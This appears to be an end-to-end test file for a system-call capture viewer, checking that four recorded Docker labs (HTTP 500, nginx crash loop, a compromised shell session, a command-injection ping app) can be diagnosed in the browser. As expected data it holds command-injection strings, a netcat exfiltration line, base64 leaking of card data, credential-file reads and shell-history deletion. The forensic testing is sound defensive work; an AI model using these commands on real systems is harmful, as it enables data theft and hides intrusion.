/** The four labs: each is set up for real, recorded, and solved in the browser in at most eight actions. */
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CRASH_LOOP } from './labs/crash-loop.ts';
import { HTTP_500 } from './labs/http-500.ts';
import { recordLab, type Lab } from './labs/lab.ts';
import { PING_APP } from './labs/ping-app.ts';
import { TERMINAL_SHELL } from './labs/terminal-shell.ts';
import { temporaryFolder } from './support/eyrie-process.ts';
import { InspectPage } from './support/inspect-page.ts';
import { startDocker, type RunningDocker } from './support/runtimes/dockerd.ts';
import { whyNoRuntime } from './support/runtimes/why-not.ts';
import { skipNote, whyNoBrowser, whyNoLiveCapture } from './support/this-host.ts';

const why = whyNoBrowser() ?? whyNoLiveCapture() ?? whyNoRuntime('dockerd');

describe.skipIf(why !== undefined)(`a lab${skipNote(why)}`, () => {
  const folder = temporaryFolder();
  let docker: RunningDocker;
  let inspect: InspectPage | undefined;

  const open = async (lab: Lab): Promise<InspectPage> => {
    const file = join(folder, `${lab.name}.scap`);
    await recordLab(lab, docker, file);
    inspect = await InspectPage.open(file);
    await inspect.tile('system-calls').waitFor();
    return inspect;
  };

  beforeAll(async () => {
    docker = await startDocker();
  });
  afterEach(async () => {
    expect(inspect?.faults ?? []).toEqual([]);
    await inspect?.close();
    inspect = undefined;
  });
  afterAll(async () => {
    await docker?.daemon.remove();
    rmSync(folder, { recursive: true, force: true });
  });

  it('HTTP 500: the exporter that fails misses a file, and which one', async () => {
    const page = await open(HTTP_500);
    // 1: what failed. It was the container usercount.
    await page.tile('http-errors').dblclick();
    await expect.poll(() => page.pieces.first().textContent()).toContain('500 Internal Server Error');
    await page.screenshot('lab-http-500-1');
    expect(await page.pieces.first().textContent()).toContain('usercount');
    // 2, 3: files that could not be opened, of that container, besides those that the web server always looks for.
    await page.place('Events').click();
    await page.setFilter('container.name=usercount and evt.type=openat and evt.failed=true and not proc.name=httpd');
    // Taking the first step back: what failed to open is no HTTP.
    await page.page.getByRole('button', { name: /^Overview HTTP Errors/ }).click();
    await page.place('Events').click();
    await expect.poll(() => page.rows.first().textContent()).toMatch(/cat.*openat.*ENOENT.*\/data\/users\.count/);
    await page.screenshot('lab-http-500-2');
  });

  it('crash loop: nginx ends because the name of its upstream is not known', async () => {
    const page = await open(CRASH_LOOP);
    // 1: the processes: nginx over and over, each with an error.
    await page.setFilter('container.name=gateway and proc.name=nginx');
    await page.place('Process Tree').click();
    await expect.poll(() => page.page.locator('.tree-failed').count()).toBeGreaterThan(1);
    // 2: what it said last.
    await page.place('I/O Streams').click();
    await page.page.getByRole('button', { name: 'Write', exact: true }).click();
    await expect.poll(() => page.page.locator('.streams').textContent()).toMatch(/\[emerg\].*host not found in upstream/);
    await page.screenshot('lab-crash-loop-1');
    // 3: the whole name, and the answer.
    await page.place('DNS').click();
    await expect.poll(() => page.rows.first().textContent()).toMatch(/flask-app\.shop\.internal.*NXDOMAIN/);
    await page.screenshot('lab-crash-loop-2');
  });

  it('terminal shell: the session as it was typed, what was unpacked and ran, what was hidden', async () => {
    const page = await open(TERMINAL_SHELL);
    // 1: the session.
    await page.place('Terminals').click();
    const screen = page.page.locator('.terminal-screen');
    await expect.poll(() => screen.textContent()).toMatch(/# sh kit\/collect\.sh[\s\S]*DB_PASSWORD[\s\S]*# rm \/root\/\.ash_history/);
    await page.screenshot('lab-terminal-shell-1');
    // 2, 3: what the script did: it read the configuration, and wrote where jobs are kept.
    await page.place('File Opens List').click();
    await page.setFilter('proc.cmdline = "sh kit/collect.sh" or proc.pcmdline = "sh kit/collect.sh"');
    await expect.poll(() => page.page.locator('.data-table').textContent()).toMatch(/\/var\/www\/wp-config\.php[\s\S]*\/etc\/crontab|\/etc\/crontab[\s\S]*\/var\/www\/wp-config\.php/);
    // 4, 5, 6: the traces that were to go.
    await page.page.keyboard.press('Escape');
    await page.setFilter('');
    await page.place('Overview').click();
    await page.tile('deleted-files').dblclick();
    await expect.poll(() => page.page.locator('.data-table').textContent()).toContain('.ash_history');
    await page.screenshot('lab-terminal-shell-2');
  });

  it('ping app: commands in the requests, and the three ways by which data left', async () => {
    const page = await open(PING_APP);
    // 1, 2: the commands that the web page ran: three of them are leaks.
    await page.place('Spy Users List').click();
    await page.setFilter('proc.cmdline startswith "sh -c"');
    const table = page.page.locator('.data-table');
    await expect.poll(() => table.textContent()).toContain('; cat /data/customers.csv');
    expect(await table.textContent()).toContain('| nc 127.0.9.9 18101');
    expect(await table.textContent()).toContain('; base64 /data/cards.txt > /www/logo.txt');
    await page.screenshot('lab-ping-app-1');
    // 3, 4: the first, in the page itself.
    await page.place('I/O Streams').click();
    await page.setFilter('evt.buffer contains ada@example');
    await expect.poll(() => page.page.locator('.streams').textContent()).toMatch(/Write .*127\.0\.0\.1:\d+->127\.0\.0\.1:18100/);
    // 5, 6, 7: the second, an archive to an outside address, and what was in it.
    await page.setFilter('fd.sport=18101');
    await page.pieces.first().dblclick();
    await page.page.getByRole('button', { name: 'Contents' }).first().click();
    await expect.poll(() => page.page.locator('.transferred').textContent()).toMatch(/tar\.gz archive/);
    await page.screenshot('lab-ping-app-2');
    // 8: the third, as a published file, encoded: what was read for it are card numbers, which are marked. Back goes to the streams.
    await page.page.goBack();
    await page.setFilter('evt.buffer contains "4111 1111"');
    await expect.poll(() => page.page.locator('.piece-secret').first().textContent()).toBe('4111 1111 1111 1111');
    await page.screenshot('lab-ping-app-3');
  });
});
